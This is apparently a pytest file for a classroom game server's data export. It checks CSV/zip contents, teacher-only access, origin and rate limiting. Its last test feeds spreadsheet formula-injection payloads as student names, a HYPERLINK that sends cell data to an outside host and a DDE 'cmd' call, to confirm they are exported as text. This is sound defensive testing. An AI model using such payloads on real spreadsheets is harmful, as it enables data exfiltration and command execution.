"""The class's data (issue 27, item 4): every table of a rooms session as CSV, from the command
line (``brady-widgets rooms export``) and from the teacher's page (``POST /export``), over real
HTTP and WebSockets. The export is the teacher's full record: no token, a student's token and
another origin get nothing."""

from __future__ import annotations

import csv
import io
import json
import stat
import time
import zipfile

import pytest

import rooms_harness as R
from brady_widgets.engine.registry import load_game
from brady_widgets.rooms import cli
from brady_widgets.rooms.export import ACTION_COLUMNS, FORMULA_STARTS, SEAT_COLUMNS, TABLE_COLUMNS, histories
from test_rooms_web import request


def wait_over(server, codes, timeout: float = 30.0) -> None:
    """Until every table ended and its last snapshot is committed to the database."""
    deadline = time.time() + timeout
    rooms = [server.rooms.rooms[c] for c in codes]
    while not all(
        r.table.game.over and r.saved_len == len(r.table.game.history) and r.saved_version >= r.version for r in rooms
    ):
        assert time.time() < deadline, "the bots' tables did not end, or were not saved"
        time.sleep(0.05)


@pytest.fixture(scope="module")
def played(tmp_path_factory):
    """A server with two tables the bots finished (one with a person's seat named at join) and
    one a student sits at; the server is left running."""
    db = tmp_path_factory.mktemp("export") / "rooms.sqlite3"
    server = R.ThreadServer(db, pace=0).start()
    t = R.teacher(server)
    bots = R.create(t, game="costume_party", players=3, seed=5, bots={"0": "random", "1": "random", "2": "random"})
    named = R.create(t, game="costume_party", players=3, seed=6, bots={"1": "random", "2": "random"})
    ada = R.join(server, named, "Ada")
    while not server.rooms.rooms[named].table.game.over:  # Ada plays her first legal action each turn
        ada.drain(0.02)
        if ada.legal() and not ada.state["view"].get("over"):
            R.play_first(ada)
    wait_over(server, [bots, named])
    yield server, db, t, ada, [bots, named]
    ada.close()
    t.close()
    server.stop()


def read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def check_against_engines(files: dict[str, str], games: dict) -> None:
    tables = {r["code"]: r for r in read(files["tables.csv"])}
    assert set(tables) == set(games)
    assert list(read(files["tables.csv"])[0]) == list(TABLE_COLUMNS)
    assert list(read(files["seats.csv"])[0]) == list(SEAT_COLUMNS)
    actions = read(files["actions.csv"])
    assert list(actions[0]) == list(ACTION_COLUMNS)
    for code, g in games.items():
        row = tables[code]
        assert (row["game"], int(row["players"]), int(row["seed"])) == (g.name, g.players, g.seed)
        assert json.loads(row["options"]) == g.options
        assert int(row["actions"]) == len(g.history) and row["over"] == "1"
        assert row["winners"] == ";".join(map(str, sorted(g.winners)))
        mine = [a for a in actions if a["code"] == code]
        assert [int(a["step"]) for a in mine] == list(range(len(g.history)))
        for a, h in zip(mine, g.history):
            assert a["seat"] == str(h["seat"])
            if isinstance(h["seat"], int):
                assert json.loads(a["detail"]) == h["action"] and a["type"] == h["action"]["type"]
            elif h["seat"] == "chance":
                assert json.loads(a["detail"]) == h["outcome"]


def test_the_cli_exports_every_table_and_the_csv_replays_the_engines_histories(played, tmp_path, capsys):
    server, db, _, _, codes = played
    assert server.rooms.store.flush(10)
    out = tmp_path / "class-data"
    assert cli.main(["rooms", "export", "--db", str(db), "--out", str(out)]) == 0
    assert "2 tables exported" in capsys.readouterr().out
    files = {name: (out / name).read_text() for name in ("tables.csv", "seats.csv", "actions.csv")}
    for name in files:  # they hold every hand: the owner's only
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600
    live = {c: server.rooms.rooms[c].table.game for c in codes}
    check_against_engines(files, live)
    # the names as the class chose them, and who sat where
    seats = [r for r in read(files["seats.csv"]) if r["code"] == codes[1]]
    assert [(r["name"], r["kind"]) for r in seats] == [
        ("Ada", "person"),
        ("Bot 2 (random)", "bot"),
        ("Bot 3 (random)", "bot"),
    ]
    assert any(a["name"] == "Ada" for a in read(files["actions.csv"]) if a["code"] == codes[1])
    # the export replays: every table is its engine again, move for move
    again = histories(out)
    for c in codes:
        assert again[c].history == live[c].history
        assert again[c].full_view() == live[c].full_view() and again[c].winners == live[c].winners


def test_the_cli_says_what_is_wrong_with_a_missing_or_foreign_file(tmp_path, capsys):
    assert cli.main(["rooms", "export", "--db", str(tmp_path / "none.sqlite3"), "--out", str(tmp_path / "o")]) == 2
    junk = tmp_path / "junk.sqlite3"
    junk.write_text("not a database")
    assert cli.main(["rooms", "export", "--db", str(junk), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert "none.sqlite3" in err and "junk.sqlite3" in err


def export(server, token: str | None, origin: str | None) -> tuple[int, dict, bytes]:
    headers = {"Content-Length": "0"}
    if origin is not None:
        headers["Origin"] = origin
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    return request(server, "/export", "POST", headers=headers)


def test_the_teacher_downloads_the_zip_and_it_matches_the_live_tables(played):
    server, _, _, _, codes = played
    status, headers, body = export(server, R.TEACHER, server.url)
    assert status == 200, body
    assert headers["content-type"] == "application/zip"
    assert headers["content-disposition"].startswith("attachment;") and headers["cache-control"] == "no-store"
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        files = {n: z.read(n).decode() for n in z.namelist()}
    assert sorted(files) == ["actions.csv", "forecasts.csv", "seats.csv", "tables.csv"]
    live = {c: server.rooms.rooms[c].table.game for c in codes}
    check_against_engines(files, live)
    for c in codes:  # and what the database holds is the same game
        g = load_game("costume_party").from_json(live[c].to_json())
        assert g.history == live[c].history


def test_no_token_a_students_token_and_another_origin_get_nothing(played):
    server, _, _, ada, _ = played
    assert ada.token
    for token in (None, "", ada.token, R.TEACHER + "x"):
        status, _, body = export(server, token, server.url)
        assert status == 403 and b"teacher_only" in body and b"tables.csv" not in body, (token, status)
    for origin in ("http://evil.example", f"http://127.0.0.1:{R.free_port()}", "null", None):
        status, _, body = export(server, R.TEACHER, origin)
        assert status == 403 and b"tables.csv" not in body, (origin, status)
    assert request(server, "/export")[0] == 405  # a GET (a link, an <img>) is not an export
    # the socket has no export: a student's connection asking for one is refused, typed
    assert ada.op({"op": "export"})["code"] == "unknown_message"


def test_guessing_the_token_is_rate_limited(tmp_path):
    server = R.ThreadServer(tmp_path / "rooms.sqlite3", pace=0, joins_per_minute=3).start()
    try:
        answers = [export(server, f"guess-{i}-0123456789", server.url) for i in range(5)]
        statuses = [a[0] for a in answers]
        assert statuses[:3] == [403] * 3 and statuses[3:] == [429, 429]
        # in the export's words (the count is the address's join rate: a teacher who mistyped
        # the token is told about tokens, not table codes)
        assert (
            json.loads(answers[3][2])["message"] == "too many wrong teacher's tokens from this address: wait a minute"
        )
    finally:
        server.stop()


def test_a_students_name_never_reaches_the_teachers_spreadsheet_as_a_formula(tmp_path):
    """A student chooses their name at join; the export puts it in every file the teacher opens
    in a spreadsheet, which runs a cell that starts with = + - @ as a formula (a link that sends
    the sheet's other cells away, or worse): each name is written as text."""
    server = R.ThreadServer(tmp_path / "rooms.sqlite3", pace=0).start()
    try:
        t = R.teacher(server)
        code = R.create(t, game="costume_party", players=3, seed=6, bots={"2": "random"})
        typed = ['=HYPERLINK("http://x.example/"&A2,"ok")', "Bea;@SUM(1+1)*cmd|' /C calc'!A0"]
        students = [R.join(server, code, name) for name in typed]
        R.play_first(students[0])  # a step of the first student's, in actions.csv
        status, _, body = export(server, R.TEACHER, server.url)
        assert status == 200, body
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            files = {n[:-4]: read(z.read(n).decode()) for n in z.namelist()}
        cells = [r["name"] for f in ("seats", "actions", "forecasts") for r in files[f] if r["name"]]
        cells += [part for r in files["tables"] for key in ("names", "winner_names") for part in r[key].split(";")]
        assert any("HYPERLINK" in c for c in cells) and any("SUM" in c for c in cells)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
        # the name is still the one the student chose, shown as text (a quote before it)
        seats = [r["name"] for r in files["seats"] if r["code"] == code]
        assert seats[0] == "'" + typed[0] and seats[1] == "Bea;'@SUM(1+1)*cmd|' /C calc'!A0"
        for s in students:
            s.close()
        t.close()
    finally:
        server.stop()
